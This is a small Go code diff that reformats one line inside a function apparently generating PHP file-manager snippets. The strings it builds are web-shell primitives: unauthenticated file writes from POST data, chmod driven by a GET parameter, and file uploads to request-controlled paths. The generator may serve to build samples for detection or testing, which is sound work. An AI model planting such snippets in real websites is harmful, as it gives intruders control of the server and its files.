@@ -431,7 +431,9 @@ func fileManagerPages(r *rand.Rand) []techVariant {
 		func(p string) string {
 			return "if(isset($_POST['t'])){$h=fopen(" + p + ",'w');fwrite($h,$_POST['t']);fclose($h);}"
 		},
-		func(p string) string { return "if(isset($_GET['c']))echo chmod(" + p + ",octdec($_GET['c']))?'ok':'no';" },
+		func(p string) string {
+			return "if(isset($_GET['c']))echo chmod(" + p + ",octdec($_GET['c']))?'ok':'no';"
+		},
 		func(p string) string {
 			return "if(isset($_FILES['u']))move_uploaded_file($_FILES['u']['tmp_name']," + strings.Replace(p, "$_GET['f']", "$_FILES['u']['name']", 1) + ");"
 		},
